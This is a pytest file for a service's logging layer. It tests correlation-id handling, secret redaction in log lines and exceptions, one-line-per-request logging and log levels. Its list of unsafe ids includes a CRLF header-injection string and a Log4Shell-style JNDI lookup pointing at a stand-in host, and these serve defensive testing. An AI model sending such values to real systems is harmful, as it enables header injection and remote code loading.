"""Logs: one JSON line for each request, with the caller's correlation id and without secrets."""

import json
import os
import re

import pytest
from hypothesis import given
from hypothesis.strategies import text

from gatehouse_dev.template import Template
from tests.layer.conftest import Log
from tests.support.calls import Api
from tests.support.filters import filter_matches
from tests.support.layer import layer
from tests.support.people import People
from tests.support.processes import run_python

TOKEN = "7130a49b-0f0d-43b8-bead-c318ac479dd9tF97pJJVhi2G3jhITgF0gA15F_lJI8ziCbP2iHu6miDN2DzAVyOfDqd8XK5YRrYVU"
INVALID_IDS = [
    "x\r\nSet-Cookie: a=b",
    "x" * 10_240,
    "${jndi:ldap://evil}",
    "",
    " ",
    "a b",
    'a"b',
    "ä",
    "a\0b",
    "x" * 129,
]


@pytest.mark.parametrize("name", ["x-correlation-id", "x-request-id"])
def test_the_callers_id_is_returned_and_logged_for_that_request_alone(call: Api, log: Log, name: str) -> None:
    given_ids = ["abc-123", "1-5759e988-bd862e3fe1be46a994272793", "a" * 128]

    responses = [call("GET /api/auth/ok", headers={name: given_id}) for given_id in given_ids]

    assert [response.headers["x-correlation-id"] for response in responses] == given_ids
    assert [line["correlation_id"] for line in log.lines] == given_ids


@pytest.mark.parametrize("given_id", INVALID_IDS, ids=lambda text: repr(text[:20]))
def test_an_unsafe_id_is_replaced(call: Api, log: Log, given_id: str) -> None:
    """S-82."""
    response = call("GET /api/auth/ok", headers={"x-correlation-id": given_id})

    assert re.fullmatch(r"[\w.=-]{1,128}", response.headers["x-correlation-id"])
    assert response.headers["x-correlation-id"] != given_id
    assert "Set-Cookie" not in log.text
    assert len(log.lines) == 1


@given(text())
def test_every_id_is_safe_in_a_header(given_id: str) -> None:
    chosen = layer("telemetry").correlation_id({"x-correlation-id": given_id}, "")

    assert re.fullmatch(r"[A-Za-z0-9_.=-]{1,128}", chosen)


def test_without_an_id_one_is_generated() -> None:
    first, second = (layer("telemetry").correlation_id({}, "") for _ in range(2))

    assert first != second


@pytest.mark.parametrize(
    "name", ["password", "newPassword", "password_hash", "token", "set-auth-token", "Cookie", "Authorization", "secret"]
)
def test_fields_named_like_secrets_are_redacted(name: str) -> None:
    line = {"fine": 1, "deep": [{name: "hunter2hunter2"}], name: {"value": "hunter2"}}

    assert "hunter2" not in json.dumps(layer("telemetry").redact(line))


@pytest.mark.parametrize("around", ["{}", "Bearer {}", "https://x.example/?token={}&a=b", "{}.c2lnbmF0dXJl="])
def test_text_that_looks_like_a_secret_is_redacted(log: Log, around: str) -> None:
    layer("telemetry").logger.info("event", facts=[around.format(TOKEN)], note=around.format(TOKEN))

    assert TOKEN[:36] not in log.text
    assert "event" in log.text


def test_an_exceptions_text_is_redacted(log: Log) -> None:
    try:
        int(TOKEN)
    except ValueError:
        layer("telemetry").logger.exception("trouble")

    assert TOKEN not in log.text
    assert "ValueError" in log.text


@pytest.mark.parametrize("fine", ["7130a49b-0f0d-43b8-bead-c318ac479dd9", "tF97pJJVhi2G3jhITgF0gA", "sign_in"])
def test_ids_and_words_are_not_redacted(fine: str) -> None:
    assert layer("telemetry").redact({"id": fine, "ids": (fine,)}) == {"id": fine, "ids": [fine]}


def test_each_request_has_one_line_and_one_count(call: Api, log: Log) -> None:
    call("GET /api/auth/ok")
    call("POST /api/auth/sign-in/email", json={"email": "x", "password": "y"})

    assert [(line["message"], line["outcome"], line["status"]) for line in log.lines] == [
        ("ok", "OK", 200),
        ("sign_in", "INVALID_EMAIL", 400),
    ]
    assert {line["service"] for line in log.lines} == {"gatehouse-local"}
    metrics = [json.loads(line) for line in log.text.splitlines() if "_aws" in line]
    assert [metric["outcome"] for metric in metrics if "outcome" in metric] == ["OK", "INVALID_EMAIL"]


def test_the_time_of_authentication_is_a_metric(call: Api, people: People, log: Log) -> None:
    """TK-8: in seconds, by function."""
    ann = people.signed_in()
    call("GET /api/tasks", bearer=ann.token)
    call("GET /api/tasks", bearer="garbage")

    (metric,) = (json.loads(line) for line in log.text.splitlines() if "AuthValidation" in line)
    assert metric["_aws"]["CloudWatchMetrics"][0]["Metrics"] == [{"Name": "AuthValidation", "Unit": "Seconds"}]
    assert metric["function"] == "list_tasks"
    assert 0 < metric["AuthValidation"][0] < 1


def test_no_line_of_ours_is_counted_as_a_failed_invocation(call: Api, log: Log) -> None:
    """Not even of errors: the alarm counts lines of Lambda and its runtime."""
    call("GET /api/auth/ok")
    call("POST /api/auth/sign-in/email", json={"email": "x", "password": "y"})
    try:
        int("x")
    except ValueError:
        layer("telemetry").logger.exception("trouble", errors=["ValueError"])

    lines = [line for line in log.text.splitlines() if line.startswith("{")]
    assert len(lines) > len(log.lines) > 2  # metrics, too
    assert not any(filter_matches("FailedInvocations", line) for line in lines)


AS_LAMBDA = """
import logging
logging.getLogger().setLevel("DEBUG")
from gatehouse import telemetry
print(logging.getLevelName(telemetry.logger.log_level), logging.getLogger("mangum.http").isEnabledFor(logging.INFO))
"""


def test_the_log_level_is_ours_and_packages_log_little(template: Template) -> None:
    """Lambda sets the root logger's level, which Powertools would adopt; Mangum would log paths, and so tokens."""
    chosen = {"AWS_LAMBDA_LOG_FORMAT": "JSON", "AWS_LAMBDA_LOG_LEVEL": "DEBUG", "GATEHOUSE_LOG_LEVEL": "ERROR"}
    environment = template.environment() | chosen | {"PYTHONPATH": os.environ["PYTHONPATH"]}

    assert run_python("-c", AS_LAMBDA, environment=environment).split() == ["ERROR", "False"]
